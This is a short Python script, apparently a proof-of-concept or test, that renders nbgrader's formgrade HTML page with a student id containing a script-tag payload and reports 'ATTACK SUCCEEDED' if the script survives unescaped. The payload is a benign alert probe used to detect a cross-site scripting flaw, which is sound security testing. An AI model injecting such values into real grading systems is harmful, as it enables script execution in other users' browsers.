"""nbgrader's own page for grading, with the student's id."""

from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat import v4
from nbgrader.server_extensions.formgrader import handlers

cell = v4.new_markdown_cell()
exporter = HTMLExporter(template_name="formgrade", extra_template_basedirs=[handlers.template_path])
about = {"student": "<script>alert(1)<", "submission_id": "1", "index": 0, "total": 1}
page, _ = exporter.from_notebook_node(v4.new_notebook(cells=[cell]), about)
if BeautifulSoup(page, "html.parser").body.select("script:-soup-contains(alert)"):
    print("ATTACK SUCCEEDED")
